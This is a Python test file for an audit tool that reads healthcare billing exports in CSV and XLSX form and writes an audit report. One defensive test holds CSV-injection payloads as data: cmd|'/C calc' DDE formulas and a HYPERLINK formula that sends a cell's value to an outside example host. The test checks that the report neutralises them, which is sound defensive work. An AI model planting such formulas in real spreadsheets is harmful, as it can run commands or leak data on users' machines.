"""Reading exports for the audit (CSV and XLSX, found by header) and writing its report."""

import csv
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from core import InputError, Request, calculate, load_rules
from core.audit import FINDING_KINDS, Audit
from core.audit_io import (LineReader, ReportWriter, missing_columns, normalise, open_table,
                           recognise)

HEADER = ["Date of Service", "Client ID", "Credential", "Procedure Code", "Modifier 1",
          "Modifier 2", "Duration", "Quantity", "Billed Units", "Level of Care",
          "Delivery Mode", "Amount"]


def _rn_h0034_units(minutes: int, more: int = 0) -> str:
    """The units calculate() gives RN, H0034 for ``minutes`` in March 2025 (plus ``more``):
    the claims below are right or wrong by the engine's numbers, tested there."""
    return str(calculate(load_rules(), Request(code="H0034", discipline="RN", quantity=minutes,
                                               date_of_service=date(2025, 3, 3))).units + more)


# One line for every kind of finding, and bad lines among good ones; each with the kinds
# the sources give it (see test_audit.py for where each comes from).
ROWS = [
    (["2025-03-03", "M1", "RN", "H0034", "", "", "100", "", _rn_h0034_units(100), "1.0",
      "In person", ""], []),
    (["2025-03-03", "M1", "RN", "H0034", "", "", "100", "", _rn_h0034_units(100, more=1),
      "1.0", "In person", ""], ["units_differ"]),
    (["2025-03-03", "M2", "RN", "H2017", "", "", "60", "", "4", "1.0", "In person", ""],
     ["discipline_not_allowed"]),
    (["2025-03-03", "M2", "RN", "H0034", "", "", "abc", "", "1", "1.0", "", ""],
     ["bad_input"]),
    (["2025-03-03", "M3", "RN", "H0034", "", "", "7", "", "1", "1.0", "", ""], ["quantity"]),
    (["2025-03-03", "M3", "MD/DO", "99408", "", "", "20", "", "1", "1.0", "", ""],
     ["setting_not_allowed"]),
    (["2025-03-03", "M4", "CHW", "T1016", "U8", "", "30", "", "2", "", "Phone", ""],
     ["modifiers"]),
    (["2025-03-03", "M4", "CHW", "H0044", "U2", "", "", "1", "1", "", "", ""],
     ["amount_missing"]),
    (["2025-03-03", "M4", "XYZ", "H0034", "", "", "30", "", "2", "", "", ""], ["bad_input"]),
    (["2025-03-03", "M5", "RN", "H9999", "", "", "30", "", "2", "", "", ""], ["unknown_code"]),
    (["2025-03-04", "M5", "CHW", "T2040", "U6", "", "30", "", "2", "", "", ""],
     ["same_day_conflict"]),  # both lines of a conflict
    (["2025-03-04", "M5", "CHW", "T2050", "U6", "", "", "1", "1", "", "", ""],
     ["same_day_conflict"]),
    (["2025-03-04", "M1", "RN", "H0034", "", "", "45", "", _rn_h0034_units(45), "1.0",
      "In person", ""], []),
    (["2025-03-04", "M1", "RN", "H0034", "", "", "45", "", _rn_h0034_units(45), "1.0",
      "In person", ""], ["duplicate"]),
    (["2025-03-04", "M6", "CHW", "H0044", "U2", "", "", "1", "1", "", "", "950.00"], []),
]


def write_csv(path, header, rows, **kw):
    with path.open("w", newline="", encoding=kw.pop("encoding", "utf-8")) as fh:
        out = csv.writer(fh, **kw)
        out.writerow(header)
        out.writerows(rows)
    return path


def write_xlsx(path, header, rows, above=()):
    """As Excel keeps an export: dates as dates, numbers as numbers, shared text."""
    book = Workbook()
    sheet = book.active
    for r in above:
        sheet.append(r)
    sheet.append(header)
    for r in rows:
        sheet.append([datetime.fromisoformat(r[0]) if r[0][:1].isdigit() else r[0],
                      *(int(v) if v.isdigit() else v for v in r[1:])])
    book.save(path)
    return path


@pytest.fixture
def audited(rules):
    def _audited(path):
        reader = LineReader(open_table(path))
        return [(r.row, r.status, [f.kind for f in r.findings], r.expected_units)
                for r in Audit(rules).run(reader)], reader

    return _audited


def test_a_csv_and_an_xlsx_with_every_kind_give_the_same_audit(tmp_path, audited):
    rows = [r for r, _ in ROWS]
    from_csv, _ = audited(write_csv(tmp_path / "export.csv", HEADER, rows))
    from_xlsx, _ = audited(write_xlsx(tmp_path / "export.xlsx", HEADER, rows))
    assert from_csv == from_xlsx
    assert [(row, kinds) for row, _, kinds, _ in from_csv] == \
        [(n, kinds) for n, (_, kinds) in enumerate(ROWS, start=2)]
    found = {k for _, _, kinds, _ in from_csv for k in kinds}
    # the shipped pack holds only exclusive same-day rules, none of one practitioner (the
    # other kinds' findings: tests/core/test_same_day_kinds.py)
    assert found == {k for k, _ in FINDING_KINDS} - {
        "daily_maximum", "threshold_modifier", "same_day_not_checked"}


def good_and_bad_rows(rules) -> list[list[str]]:
    """RN, H0034 lines of 30, "??", 15, "", "1h" and 45 minutes: three good ones, each
    claiming the units calculate() gives, and three that cannot be read (claiming 1)."""
    def claimed(minutes: str) -> str:
        if not minutes.isdigit():
            return "1"
        return str(calculate(rules, Request(discipline="RN", code="H0034",
                                            quantity=int(minutes))).units)

    return [["2025-03-03", "M1", "RN", "H0034", "", "", m, "", claimed(m), "", "", ""]
            for m in ("30", "??", "15", "", "1h", "45")]


def test_bad_lines_do_not_stop_the_run_and_rows_are_numbered_as_in_excel(tmp_path, audited,
                                                                         rules):
    rows = good_and_bad_rows(rules)
    result, _ = audited(write_csv(tmp_path / "x.csv", HEADER, rows))
    assert [(row, status) for row, status, _, _ in result] == [
        (2, "ok"), (3, "error"), (4, "ok"), (5, "error"), (6, "error"), (7, "ok")]


def test_blank_rows_are_counted_and_title_rows_above_the_header_are_passed(tmp_path, audited):
    rows = [ROWS[0][0], ["", "", "", "", "", "", "", "", "", "", "", ""], ROWS[1][0]]
    path = write_xlsx(tmp_path / "t.xlsx", HEADER, rows,
                      above=[["Services report, all programs"], []])
    table = open_table(path)
    assert table.header_row == 3
    result, reader = audited(path)
    assert [row for row, *_ in result] == [4, 6] and reader.blank == 1


# (the header as an export writes it, the field it is)
SYNONYMS = [
    ("Date", "date"), ("date of service", "date"), ("Service Date", "date"), ("DOS", "date"),
    ("Client", "member"), ("MEMBER", "member"), ("Client ID", "member"),
    ("Member_ID", "member"), ("Discipline", "discipline"), ("Credential", "discipline"),
    ("Code", "code"), ("Procedure Code", "code"), ("HCPCS", "code"), ("CPT", "code"),
    ("Modifiers", "modifiers"), ("Minutes", "minutes"), ("Duration", "minutes"),
    ("Duration (minutes)", "minutes"), ("Quantity", "quantity"), ("Days", "quantity"),
    ("Count", "quantity"), ("Units", "units"), ("Billed Units", "units"),
    ("Level of Care", "setting"), ("Setting", "setting"), ("Delivery Mode", "mode"),
    ("Mode", "mode"), ("Amount", "amount"),
]


@pytest.mark.parametrize("name,field", SYNONYMS)
def test_header_synonyms(name, field):
    columns, _ = recognise(["x", name])
    assert columns == {field: 1}


def test_modifier_1_to_4_columns_are_joined_in_order(tmp_path):
    header = ["Date", "Client", "Credential", "HCPCS", "Mod 2", "Modifier 1", "Minutes",
              "Units"]
    path = write_csv(tmp_path / "m.csv", header,
                     [["2025-03-03", "M1", "CHW", "T1016", "GQ", "U8", "30", "2"]])
    table = open_table(path)
    (line,) = LineReader(table)
    assert line.modifiers == "U8 GQ"
    assert ("modifiers", "Modifier 1") in table.recognised()


@pytest.mark.parametrize("given,read", [
    (["U8", "GQ"], "U8 GQ"), (["", "GQ"], "GQ"), (["U8", ""], "U8"), (["", ""], ""),
    (["U8"], "U8"), (["HE", "", "GQ"], "HE GQ"), (["", "", "", "95"], "95"),
])
def test_numbered_modifier_columns_read_without_the_empty_ones_also_in_a_short_row(
        tmp_path, given, read):
    """A row shorter than the header (an export that leaves trailing empty cells out)
    reads empty past its end, and keeps its cells as they were for the report."""
    header = ["Date", "Client", "Credential", "HCPCS",
              *(f"Modifier {n}" for n in range(1, len(given) + 1)), "Minutes", "Units"]
    row = ["2025-03-03", "M1", "CHW", "T1016", *given, "30", "2"]
    path = write_csv(tmp_path / "m.csv", header, [row, row[:5]])
    full, short = LineReader(open_table(path))
    assert (full.modifiers, full.minutes, full.units, full.cells) == (read, "30", "2", row)
    assert (short.modifiers, short.minutes, short.units, short.cells) == (
        given[0], "", "", row[:5])


def test_a_file_without_the_needed_columns_says_what_is_missing_and_what_was_found(tmp_path):
    path = write_csv(tmp_path / "few.csv", ["Service Date", "Client", "Staff", "CPT"], [])
    with pytest.raises(InputError) as err:
        open_table(path)
    message = str(err.value)
    assert "\n" not in message
    for missing in ("discipline or credential", "units", "minutes or quantity"):
        assert missing in message
    assert "'Staff'" in message and "'CPT'" in message


def test_two_columns_for_one_field_is_bad_input():
    with pytest.raises(InputError, match="'Date'.*'Service Date'"):
        recognise(["Date", "Service Date"])


def test_missing_columns_is_empty_for_a_full_header():
    assert missing_columns(recognise(HEADER)[0]) == []
    assert normalise(" Date_of-Service ") == "date of service"


@pytest.mark.parametrize("kw", [dict(delimiter=";"), dict(delimiter="\t"),
                                dict(encoding="cp1252")])
def test_semicolons_tabs_and_windows_text_are_read(tmp_path, kw, audited):
    right = ROWS[0][0][8]  # RN, H0034, 100 minutes: the units calculate() gives
    rows = [["2025-03-03", "M\u00e9", "RN", "H0034", "", "", "100", "", right, "", "", ""]]
    result, _ = audited(write_csv(tmp_path / "w.csv", HEADER, rows, **kw))
    assert result == [(2, "ok", [], int(right))]


@pytest.mark.parametrize("name,problem", [("none.csv", "no such file"),
                                          ("book.csv", "Excel workbook"),
                                          ("broken.xlsx", "not a readable XLSX")])
def test_unreadable_files_are_bad_input(tmp_path, name, problem):
    if name == "book.csv":
        write_xlsx(tmp_path / name, HEADER, [])
    elif name == "broken.xlsx":
        (tmp_path / name).write_text("not a zip")
    with pytest.raises(InputError, match=problem):
        open_table(tmp_path / name)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_report_has_the_input_columns_then_status_claim_units_findings_and_fix(
        tmp_path, suffix, rules):
    right = ROWS[0][0][8]
    rows = [ROWS[0][0], ROWS[1][0], ["2025-03-03", "=HYPERLINK(\"x\")", "RN", "H0034", "",
                                     "", "100", "", right, "", "", "", "extra"],
            ["2025-03-04", "M\x01", "RN", "H0034", "", "", "100", "", right, "", "", "",
             *(f"x{n}" for n in range(20))]]
    table = open_table(write_csv(tmp_path / "in.csv", HEADER, rows))
    out = tmp_path / f"report{suffix}"
    audit = Audit(rules)
    with ReportWriter(out, table, audit.summary) as report:
        for result in audit.run(LineReader(table)):
            report.write(result.line.cells, result)
    if suffix == ".csv":
        with out.open(encoding="utf-8-sig", newline="") as fh:
            got = list(csv.reader(fh))
    else:
        sheet = load_workbook(out).active
        got = [["" if v is None else str(v) for v in r] for r in sheet.iter_rows(values_only=True)]
        got[0] = got[0][:17]  # the sheet is as wide as its widest row
    assert got[0] == HEADER + ["Audit status", "Expected claim", "Expected units",
                               "Audit findings", "Fix"]
    units = calculate(rules, Request(discipline="RN", code="H0034", quantity=100)).units
    claim = f"H0034, {units} units"  # the claim the rules accept: calculate()'s line
    assert got[1][:12] == ROWS[0][0] and got[1][12:17] == ["ok", claim, str(units), "", ""]
    assert got[2][12:15] == ["finding", claim, str(units)]
    assert got[2][15].startswith("units_differ: ") and "San Diego" in got[2][15]
    assert f"Report {claim}." in got[2][15]
    assert got[2][16] == f"Void H0034, {ROWS[1][0][8]} units; report {claim}."
    # kept as text, not made a formula (the CSV's marked so that a spreadsheet will not run it)
    assert got[3][1] == ("'" if suffix == ".csv" else "") + "=HYPERLINK(\"x\")"
    assert got[3][17] == "extra"  # a cell beyond the header is kept, after the audit's
    assert got[4][17:] == [f"x{n}" for n in range(20)]  # columns R to AK
    # a control character XML cannot hold: kept in the CSV, U+FFFD in the XLSX
    assert got[4][1] == ("M\x01" if suffix == ".csv" else "M\ufffd")


def test_the_report_refuses_to_overwrite_the_input(tmp_path, rules):
    table = open_table(write_csv(tmp_path / "in.csv", HEADER, []))
    with pytest.raises(InputError, match="overwrite"):
        ReportWriter(tmp_path / "in.csv", table, Audit(rules).summary)


def test_xlsx_dates_with_a_time_of_day_are_read_as_the_date(tmp_path, audited):
    right = int(ROWS[0][0][8])  # RN, H0034, 100 minutes: the units calculate() gives
    book = Workbook()
    book.active.append(HEADER)
    book.active.append([datetime(2025, 3, 3, 9, 30), "M1", "RN", "H0034", None, None, 100,
                        None, right, None, None, None])
    book.active.append([date(2025, 3, 3), "M1", "RN", "H0034", None, None, 100, None, right,
                        None, None, None])
    book.save(tmp_path / "d.xlsx")
    result, _ = audited(tmp_path / "d.xlsx")
    assert [kinds for _, _, kinds, _ in result] == [[], ["duplicate"]]


FORMULAS = ['=HYPERLINK("http://x.example/?"&B2,"click")', "+cmd|'/C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cells_a_spreadsheet_would_run_are_never_formulas_in_the_report(tmp_path, suffix,
                                                                       rules):
    """OWASP's CSV injection: an input cell that begins with = + - @ tab or CR is written
    with a leading ' in the CSV report; the XLSX report writes every such cell as text."""
    rows = [[GOOD_DATE, cell, "RN", "H0034", "", "", "100", "", "7", "", "", ""]
            for cell in FORMULAS]
    table = open_table(write_csv(tmp_path / "in.csv", ["=Date", *HEADER[1:]], rows))
    out = tmp_path / f"report{suffix}"
    results = []
    audit = Audit(rules)
    with ReportWriter(out, table, audit.summary) as report:
        for result in audit.run(LineReader(table)):
            report.write(result.line.cells, result)
            results.append(result)
    if suffix == ".csv":
        with out.open(encoding="utf-8-sig", newline="") as fh:
            got = list(csv.reader(fh))
        assert got[0][0] == "'=Date"
        assert [r[1] for r in got[1:]] == ["'" + f for f in FORMULAS]
        # the audit's own numbers (members "\t=1+1" and "\r=1+1" are one member: the
        # second line is a duplicate, which claims nothing more)
        assert [r[14] for r in got[1:]] == [str(r.expected_units) for r in results]
        return
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = load_workbook(out)
    assert [book.active.cell(row=n, column=2).data_type for n in range(2, 8)] == ["s"] * 6
    assert [book.active.cell(row=n, column=2).value for n in range(2, 8)] == FORMULAS


GOOD_DATE = "2025-03-03"


def test_an_audit_reads_the_file_as_many_times_as_it_says(rules, tmp_path):
    """The window's progress bar gives each of Audit.READINGS readings an equal part: if
    the audit read the file another number of times, the bar would stop short or overrun."""
    from core.audit import Audit
    from core.audit_io import LineReader, open_table

    path = tmp_path / "export.csv"
    write_csv(path, HEADER, ROWS)
    reader = LineReader(open_table(path))
    results = list(Audit(rules).run(reader))
    assert len(results) == len(ROWS) and reader.readings == Audit.READINGS


def test_a_workbook_is_parsed_once_a_run_and_read_back_the_same(tmp_path, monkeypatch):
    """The audit reads a file twice; a workbook's second reading takes its rows from the
    first (kept compressed in memory), not from the sheet parsed again: the same lines,
    blank rows counted alike, a progress that moves, and one version of the file even when
    Excel saves it again during the run."""
    import core.audit_io as audit_io

    monkeypatch.setattr(audit_io, "_KEEP_BATCH", 2)  # several batches from a few rows
    rows = [r for r, _ in ROWS]
    path = write_xlsx(tmp_path / "export.xlsx", HEADER, [*rows[:3], [""] * len(HEADER),
                                                         *rows[3:]], above=[["Export"]])
    reader = LineReader(open_table(path))
    first, blank = list(reader), reader.blank
    assert len(first) == len(rows) and blank == 1
    write_xlsx(path, HEADER, rows[:1], above=[["Export"]])  # saved again meanwhile: the
    # run keeps the version it began with
    shares, second = [], []
    for line in reader:
        second.append(line)
        shares.append(reader.share)
    assert second == first and reader.blank == blank and reader.readings == 2
    assert 0 < shares[0] < shares[len(shares) // 2] < 1 and reader.share == 1.0
    # read back once: a third reading parses the file as it now is
    assert [line.row for line in reader] == [3]


def test_a_workbook_reading_given_up_keeps_nothing(tmp_path):
    rows = [r for r, _ in ROWS]
    path = write_xlsx(tmp_path / "export.xlsx", HEADER, rows)
    reader = LineReader(open_table(path))
    for _ in reader:
        break  # given up after one line (a cancelled run)
    write_xlsx(path, HEADER, rows[:2])
    assert [line.row for line in reader] == [2, 3]  # the file as it is, parsed again
